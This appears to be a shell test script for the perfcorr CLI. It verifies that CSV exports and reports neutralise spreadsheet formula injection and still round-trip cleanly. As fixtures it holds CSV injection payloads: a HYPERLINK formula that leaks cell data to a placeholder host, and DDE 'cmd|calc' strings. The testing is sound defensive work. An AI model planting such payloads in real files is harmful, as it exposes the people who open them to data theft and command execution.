# CSV exports, listings and reports neutralise text cells a spreadsheet
# would run as a formula (OWASP CSV injection: = + - @ tab CR at the
# start get a leading '), leave numbers (negative errors, exponents)
# alone, and perfcorr's own export imports back unchanged.
. "$(dirname "$0")/../cli/lib.sh"
python3 - "$T" <<'PY'
import csv, sys
t = sys.argv[1]
# a workload key's parts cannot hold '=' (db/wkey.c): '=' goes in an op
rows = [('+cmd|calc/bs=1', '=HYPERLINK("http://x/?"&A1)', 'time', 10),
        ('@SUM(A1)/bs=2', '-2+3', 'time', 20),
        ('plain/bs=3', 'gemm', 'time', 30)]
for name, scale in (('m', 1.1), ('r', 1.0)):
    with open('%s/%s.csv' % (t, name), 'w', newline='') as f:
        w = csv.writer(f)
        w.writerow(['workload', 'op', 'metric', 'value', 'unit'])
        for wl, op, met, v in rows:
            w.writerow([wl, op, met, v * scale, 'us'])
PY
pc import -q --source sim --kind perfsim "$T/m.csv" || fail "import m"
pc import -q --source lab --kind silicon "$T/r.csv" || fail "import r"
pc annotate --status investigating --model sim --ref lab --workload "plain/bs=3" \
	--op gemm --metric time --note "=cmd|' /C calc'!A0" 2>/dev/null || fail "annotate"

# every cell: a leading = + - @ tab CR only on a number
check_csv() { # FILE DESCRIPTION
	if python3 - "$1" <<'PY'
import csv, sys
bad = []
with open(sys.argv[1], newline='') as f:
    for row in csv.reader(f):
        for cell in row:
            if cell[:1] in ('=', '+', '-', '@', '\t', '\r'):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
if bad:
    print('formula cells:', bad)
    sys.exit(1)
PY
	then ok; else fail "$2"; fi
}
pc export results --source sim --format csv >"$T/export.csv"; check_csv "$T/export.csv" "export results"
grep -q "\"'=HYPERLINK" "$T/export.csv" && ok || fail "the formula is kept as text: $(cat "$T/export.csv")"
grep -q ",\"'-2+3\"," "$T/export.csv" && ok || fail "an op '-2+3' is text: $(cat "$T/export.csv")"
pc report --model sim --ref lab --format csv -o "$T/report.csv" 2>/dev/null || pc report --model sim --ref lab --format csv >"$T/report.csv"
check_csv "$T/report.csv" "report csv"
# negative errors stay numbers: plain/bs=3 gemm: (33 - 30) / 30 = 0.1; the
# model is above the reference everywhere, so use the ref as model side
pc report --model lab --ref sim --format csv >"$T/neg.csv" 2>/dev/null
python3 - "$T/neg.csv" <<'PY' && ok || fail "negative numbers untouched"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
# lab 30 vs sim 33: err = 30/33 - 1 = -0.0909...
e = [float(r['err']) for r in rows if r['workload'] == 'plain/bs=3']
assert e and abs(e[0] - (30 / 33 - 1)) < 1e-9, e
PY
pc compare --model sim --ref lab --points --format csv >"$T/cmp.csv"; check_csv "$T/cmp.csv" "compare csv"
pc compare --model sim --ref lab -g op --format csv >"$T/grp.csv"; check_csv "$T/grp.csv" "compare grouped csv"
pc runs --format csv >"$T/runs.csv"; check_csv "$T/runs.csv" "runs csv"
pc workloads --format csv >"$T/wl.csv" 2>/dev/null && check_csv "$T/wl.csv" "workloads csv"
pc annotations --format csv >"$T/ann.csv" 2>/dev/null && check_csv "$T/ann.csv" "annotations csv"

# the export imports back unchanged (the quote is taken off again)
export PERFCORR_DB=$T/back.db
pc import -q --source sim --kind perfsim --format perfcorr-csv "$T/export.csv" 2>"$T/e" || fail "re-import: $(cat "$T/e")"
expect_eq "$(pcsql "SELECT count(*) FROM ops WHERE name LIKE '=HYPERLINK%'")" 1 "op name restored"
expect_eq "$(pcsql "SELECT count(*) FROM workloads WHERE key LIKE '@SUM(A1)%'")" 1 "workload name restored"
expect_eq "$(pcsql "SELECT count(*) FROM ops WHERE name = '-2+3'")" 1 "op name restored"
finish
